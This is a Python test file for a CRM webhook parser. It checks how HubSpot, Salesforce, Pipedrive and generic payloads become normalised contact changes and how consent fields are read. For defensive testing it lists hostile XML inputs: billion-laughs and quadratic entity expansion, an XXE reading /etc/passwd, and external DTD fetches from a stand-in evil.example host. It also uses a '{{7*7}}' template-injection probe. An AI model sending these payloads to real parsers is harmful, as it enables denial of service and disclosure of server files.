"""CRM bodies: each maker's own shape becomes the same few kinds of change, and nothing hostile gets through."""

from __future__ import annotations

import itertools
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audience import crm_salesforce
from audience.aliases import Field
from audience.crm import parse
from audience.crm_fields import Contacts, field_map
from audience.revisions import Stamp, newer
from pigeonry.domain import ConsentBasis, ConsentClaim
from pigeonry.domain.crm import ChangeKind, CrmNews
from pigeonry.errors import ConfigError
from tests import crm_bodies as crm
from tests.crm_bodies import AT

NOW = AT + timedelta(hours=2)


def news(kind: str, body: bytes, **more: Any) -> CrmNews:
    fields = field_map(kind, {}, where="crm.x")
    return parse(kind, body, fields=fields, received_at=NOW, **more)


def test_hubspots_events_name_contacts_and_leave_the_rest_alone() -> None:
    found = news(
        "hubspot",
        crm.body(
            [
                crm.hubspot("creation", 17),
                crm.hubspot("propertyChange", 17, 1, propertyName="email", propertyValue="a@b.ro"),
                crm.hubspot("propertyChange", 17, 2, propertyName="favourite_pet"),
                crm.hubspot("deletion", 18, 3),
                crm.hubspot("privacyDeletion", 19, 4),
                crm.hubspot("restore", 18, 5),
                crm.hubspot("merge", 20, 6, primaryObjectId=20, mergedObjectIds=[21, 22]),
                crm.hubspot(
                    "merge", 20, 7, primaryObjectId=20, mergedObjectIds=[23], newObjectId=99
                ),
                {**crm.hubspot("creation", 5), "subscriptionType": "company.creation"},
                {
                    **crm.hubspot("x", 6),
                    "subscriptionType": "object.creation",
                    "objectTypeId": "0-1",
                },
                {**crm.hubspot("creation", 7), "occurredAt": None},
                {**crm.hubspot("creation", 8), "occurredAt": crm.ms(60 * 72)},
            ]
        ),
    )
    kinds = [(change.kind, change.external_id) for change in found.changes]
    assert kinds == [
        (ChangeKind.FETCH, "17"),
        (ChangeKind.FETCH, "17"),
        (ChangeKind.DELETE, "18"),
        (ChangeKind.ERASE, "19"),
        (ChangeKind.RESTORE, "18"),
        (ChangeKind.MERGE, "20"),
        (ChangeKind.MERGE, "99"),
        (ChangeKind.FETCH, "6"),
    ]
    assert found.changes[5].merged == ("21", "22")
    assert found.changes[6].merged == ("20", "23")
    assert found.ignored == 2
    assert [flaw.position for flaw in found.flaws] == [10, 11]


def test_an_outbound_message_is_read_and_a_document_type_is_refused() -> None:
    person = {"Id": "0035g00000AbcDEAAZ", "SystemModstamp": crm.iso(), "Email": "ana@exemplu.ro",
              "LastName": "Pop &amp; fiica"}  # fmt: skip
    found = news("salesforce", crm.salesforce(person), account=crm.ORGANISATION[:15])
    (change,) = found.changes
    assert (change.kind, change.external_id, change.revision) == (
        ChangeKind.UPDATE, "0035g00000AbcDEAAZ", crm.ms(),
    )  # fmt: skip
    assert change.values["LastName"] == "Pop & fiica"

    merged = {**person, "MasterRecordId": "0035g00000Master0Z"}
    gone = {**person, "IsDeleted": "true"}
    unstamped = {"Id": person["Id"]}
    many = news("salesforce", crm.salesforce(merged, gone, unstamped))
    assert [change.kind for change in many.changes] == [ChangeKind.MERGE, ChangeKind.DELETE]
    assert "SystemModstamp" in many.flaws[0].reason
    assert news("salesforce", crm.salesforce(person, kind="Account")).ignored == 1
    assert (
        "another account"
        in news("salesforce", crm.salesforce(person), account="00Dx").flaws[0].reason
    )


LAUGHS = (
    b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">"""
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><notifications xmlns='http://soap.sforce.com/2005/09/outbound'>&lol9;</notifications>"
)
HOSTILE = {
    "a billion laughs": LAUGHS,
    "quadratic": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 50_000 + b'">]><x>' + b"&a;" * 1000 + b"</x>",
    "a file": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "a foreign DTD": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "parameter entities": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>',
    "an entity nobody declared": b"<x>&nobody;</x>",
    "endless depth": b"<a>" * 100_000,
    "half": b"<x><y>",
    "no XML": b"{}",
    "nothing": b"",
    "an unknown encoding": b'<?xml version="1.0" encoding="x-klingon"?><x/>',
    "something else": b"<x/>",
}  # fmt: skip


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_xml_is_refused_with_a_reason(hostile: bytes) -> None:
    with pytest.raises(ValueError, match=r"."):
        crm_salesforce.read(hostile)
    assert len(news("salesforce", hostile).flaws) == 1


def test_pipedrives_person_becomes_single_values() -> None:
    data = {
        "id": 7,
        "name": "Ana Pop",
        "first_name": "Ana",
        "emails": [
            {"value": "second@exemplu.ro", "primary": False},
            {"value": "ana@exemplu.ro", "primary": True},
        ],
        "phones": [{"value": "+40 721 000 000"}],
        "custom_fields": {"abc": {"type": "text", "value": "gold"}, "def": None},
        "marketing_status": "unsubscribed",
    }
    (change,) = news("pipedrive", crm.body(crm.pipedrive("change", 7, data=data))).changes
    assert change.values["email"] == "ana@exemplu.ro"
    assert change.values["phone"] == "+40 721 000 000"
    assert change.values["abc"] == "gold"

    merged = crm.pipedrive("delete", 8, previous={"merged_to_id": 7})
    (change,) = news("pipedrive", crm.body(merged)).changes
    assert (change.kind, change.external_id, change.merged) == (ChangeKind.MERGE, "7", ("8",))
    assert news("pipedrive", crm.body(crm.pipedrive("change", 1, entity="deal"))).ignored == 1
    assert "version 2" in news("pipedrive", b'{"v": 1, "current": {}}').flaws[0].reason


def test_a_generic_body_is_read_by_paths() -> None:
    batch = [
        crm.generic("c1", email="ana@exemplu.ro", consent={"basis": "express", "source": "form"}),
        crm.generic("c1", 1, "unsubscribe"),
        crm.generic("c1", 2, "merge", merged=["c2"]),
        crm.generic("c1", 3, "dance"),
        {"lead": {"id": "c1"}, "occurred_at": "yesterday"},
        {"occurred_at": crm.iso()},
    ]
    found = news("generic", crm.body(batch), message_id="msg_1")
    update, stop, merge = found.changes
    assert update.values["lead.consent.basis"] == "express"
    assert stop.stop
    assert merge.merged == ("c2",)
    assert found.ignored == 1
    assert [flaw.position for flaw in found.flaws] == [4, 5]


def test_consent_is_taken_as_an_import_takes_it() -> None:
    fields = field_map("hubspot", {"hs_email_optout_1": "do_not_mail"}, where="crm.h")
    claim = ConsentClaim(ConsentBasis.EXPRESS, "the form")

    def read(claim: ConsentClaim | None = None, **values: str) -> Any:
        reader = Contacts(fields, claim=claim, now=NOW)
        found = reader.read(values, email="ana@exemplu.ro", position=0)
        assert found is not None
        assert found.record is not None
        return found

    assert read(firstname="Ana").record.consent is None
    assert read(claim, firstname="Ana").record.consent is None  # a claim alone is no yes
    assert read(claim, hs_legal_basis="yes").record.consent == claim
    unclear = read(hs_legal_basis="yes")
    assert unclear.record.consent is None
    assert "basis" in unclear.errors[0].reason
    assert read(hs_legal_basis="Legitimate interest – prospect/lead").record.consent is None
    granted = read(hs_legal_basis="Freely given consent from contact").record.consent
    assert granted.basis is ConsentBasis.EXPRESS
    assert read(hs_email_optout_1="true").record.do_not_mail
    assert read(jobtitle="{{7*7}}").record.attributes == {"jobtitle": "{{7*7}}"}


def test_a_field_that_leads_do_not_have_is_a_mistake_in_the_settings() -> None:
    assert field_map("hubspot", {"email": "ignore"}, where="x")["email"] is Field.IGNORE
    with pytest.raises(ConfigError, match=r"crm\.h\.fields\.pet"):
        field_map("hubspot", {"pet": "animal"}, where="crm.h")


@given(
    st.lists(
        st.tuples(st.integers(1, 4), st.sampled_from("ab"), st.sampled_from("xyz")), max_size=4
    )
)
def test_every_order_of_the_same_changes_ends_alike(changes: list[tuple[int, str, str]]) -> None:
    ends = set()
    for order in itertools.permutations(changes):
        stamps: dict[str, Stamp] = {}
        state: dict[str, str] = {}
        for revision, name, value in order:
            values, stamps = newer({name: value}, revision, stamps)
            state |= values
        ends.add((tuple(sorted(state.items())), tuple(sorted(stamps.items()))))
    assert len(ends) == 1
